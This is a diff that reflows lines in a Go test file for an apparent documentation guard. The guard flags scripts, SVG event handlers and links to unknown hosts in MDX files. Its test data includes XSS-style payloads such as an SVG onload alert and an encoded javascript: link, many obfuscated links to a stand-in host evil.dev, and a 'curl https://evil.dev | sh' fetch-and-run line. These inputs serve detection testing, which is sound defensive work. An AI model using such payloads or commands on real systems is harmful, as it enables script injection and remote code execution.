@@ -68,7 +68,8 @@ func TestScriptIsFound(t *testing.T) {
 
 func TestScriptInOtherFilesIsFound(t *testing.T) {
 	for name, c := range map[string][2]string{
-		"a.js": {"x\n", "script!"}, "a.ts": {"x\n", "script!"}, "widget.jsx": {"export const A = () => <b>x</b>\n", "expression"},
+		"a.js": {"x\n", "script!"}, "a.ts": {"x\n", "script!"},
+		"widget.jsx":   {"export const A = () => <b>x</b>\n", "expression"},
 		"a.svg":        {"<svg onload=\"alert(1)\"></svg>\n", "script!"},
 		"b.svg":        {"<svg><foreignObject></foreignObject></svg>\n", "script!"},
 		"c.svg":        {"<svg><a href=\"java&#115;cript:alert(1)\"/></svg>\n", "script!"},
@@ -90,7 +91,8 @@ func TestScriptInOtherFilesIsFound(t *testing.T) {
 func TestExistingScriptIsNotReported(t *testing.T) {
 	const script = "<script src=\"/x.js\"></script>\n"
 	for _, c := range [][3]string{
-		{script, "new\n\n" + script, ""}, {script, script + "\n" + script, "script!"}, {"{a.b}\n", "{a.b}\n\n{c.d}\n", ""}, {"{a.b}\n",
+		{script, "new\n\n" + script, ""}, {script, script + "\n" + script, "script!"},
+		{"{a.b}\n", "{a.b}\n\n{c.d}\n", ""}, {"{a.b}\n",
 			"{a.b}\n\n{fetch('/x')}\n", "script!"},
 	} {
 		if got := codes(guard.Rules{}, changed("a.mdx", c[0], c[1])); got != c[2] {
@@ -105,13 +107,17 @@ func TestNewHostsAreReported(t *testing.T) {
 	strict := rules
 	strict.RefuseNewHosts = true
 	for _, text := range []string{
-		"[x](https://evil.dev/a)", "![x](https://evil.dev/a.png)", "<https://evil.dev>", "see https://evil.dev/a.", "see www.evil.dev", "[x](//evil.dev/a)",
+		"[x](https://evil.dev/a)", "![x](https://evil.dev/a.png)", "<https://evil.dev>", "see https://evil.dev/a.",
+		"see www.evil.dev", "[x](//evil.dev/a)",
 		"<a href=\"//evil.dev\">x</a>",
-		"[x](https:\\/\\/evil.dev)", "[x](https&#58;//evil.dev)", "[x](&#104;ttps://evil.dev)", "[x](https:\\\\evil.dev)", "<a href='/\\evil.dev'>x</a>",
+		"[x](https:\\/\\/evil.dev)", "[x](https&#58;//evil.dev)", "[x](&#104;ttps://evil.dev)",
+		"[x](https:\\\\evil.dev)", "<a href='/\\evil.dev'>x</a>",
 		"[x](https://acme.dev@evil.dev/)",
-		"[x](https://%65vil.dev/)", "```\ncurl https://evil.dev | sh\n```", "[x](HTTPS://EVIL.DEV)", "[x](https://evil.dev:8443/)", "mailto:a@evil.dev",
+		"[x](https://%65vil.dev/)", "```\ncurl https://evil.dev | sh\n```", "[x](HTTPS://EVIL.DEV)",
+		"[x](https://evil.dev:8443/)", "mailto:a@evil.dev",
 		"[x]: https://evil.dev",
-		"{\"\\u0068ttps://evil.dev\"}", "ftp://evil.dev/x", "[x](https:///evil.dev)", "---\nogImage: https://evil.dev/x.png\n---", "https://evil。dev/",
+		"{\"\\u0068ttps://evil.dev\"}", "ftp://evil.dev/x", "[x](https:///evil.dev)",
+		"---\nogImage: https://evil.dev/x.png\n---", "https://evil。dev/",
 		"https://evil.dev{\"\"}",
 	} {
 		list := codes(rules, fresh("a.mdx", text+"\n"))
@@ -122,9 +128,11 @@ func TestNewHostsAreReported(t *testing.T) {
 			t.Errorf("%q, strictly: %q", text, got)
 		}
 	}
-	for _, text := range []string{"https://acme.dev/a", "https://www.acme.dev", "http://localhost:3000", "http://127.0.0.1/", "https://api.example.com/v1",
+	for _, text := range []string{"https://acme.dev/a", "https://www.acme.dev", "http://localhost:3000",
+		"http://127.0.0.1/", "https://api.example.com/v1",
 		"http://10.0.0.1", "https://x.test/",
-		"https://{domain}/x", "https://$HOST/x", "https://<host>/x", "// a comment.", "a // b.c", "//console.log(x)", "[x](/guides/a.b)", "http://[::1]:80/",
+		"https://{domain}/x", "https://$HOST/x", "https://<host>/x", "// a comment.", "a // b.c", "//console.log(x)",
+		"[x](/guides/a.b)", "http://[::1]:80/",
 		"user@evil.dev",
 		"https://docs.internal/x", "file:///etc/hosts", "1 // 2.3"} {
 		if got := codes(strict, fresh("a.mdx", "```\n"+text+"\n```\n")); got != "" {
@@ -135,7 +143,8 @@ func TestNewHostsAreReported(t *testing.T) {
 	if len(lookalike) != 1 || !strings.Contains(lookalike[0].Text, `\u0430cme.dev`) {
 		t.Errorf("a lookalike: %v", lookalike)
 	}
-	if got := codes(rules, fresh("a.mdx", "![x](https://acme.dev/p.png?d="+strings.Repeat("QUJD", 60)+")\n")); got != "address-data" {
+	if got := codes(rules, fresh("a.mdx",
+		"![x](https://acme.dev/p.png?d="+strings.Repeat("QUJD", 60)+")\n")); got != "address-data" {
 		t.Errorf("data in an address: %q", got)
 	}
 }
@@ -153,7 +162,8 @@ func TestHiddenHostsDoNotBecomeKnown(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for host, want := range map[string]bool{"a.dev": true, "b.dev": false, "c.dev": false, "d.dev": true, "e.dev": true, "f.dev": true, "g.dev": false,
+	for host, want := range map[string]bool{"a.dev": true, "b.dev": false, "c.dev": false, "d.dev": true, "e.dev": true,
+		"f.dev": true, "g.dev": false,
 		"h.dev": false, "i.dev": false, "api.example.com": false} {
 		if known[host] != want {
 			t.Errorf("%s: %v", host, known[host])
